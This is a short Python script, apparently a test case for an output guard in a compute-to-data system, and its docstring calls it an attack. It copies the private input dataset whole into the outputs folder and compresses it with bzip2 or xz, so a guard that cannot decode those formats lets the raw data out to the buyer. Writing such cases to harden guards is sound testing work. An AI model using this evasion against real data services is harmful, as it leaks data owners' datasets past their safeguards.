#!/usr/bin/env python3
"""Attack: the dataset compressed with a format the guard cannot decode, bzip2 (or xz: {"format": "xz"})."""
import bz2
import json
import lzma
import os
import shutil

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
OUTPUTS = os.path.join(DATA_ROOT, "outputs")


def dataset_path():
    """The first dataset of env DIDS (a JSON array), at <DATA_ROOT>/inputs/<did>/0."""
    did = json.loads(os.environ["DIDS"])[0]
    return os.path.join(DATA_ROOT, "inputs", did, "0")


def params():
    """The buyer's parameters (algoCustomData.json), or {}."""
    path = os.path.join(DATA_ROOT, "inputs", "algoCustomData.json")
    if not os.path.exists(path):
        return {}
    with open(path, encoding="utf-8") as file:
        return json.load(file)


xz = params().get("format") == "xz"
with open(dataset_path(), "rb") as source, (lzma if xz else bz2).open(os.path.join(OUTPUTS, "model.xz" if xz else "model.bz2"), "wb") as target:
    shutil.copyfileobj(source, target)
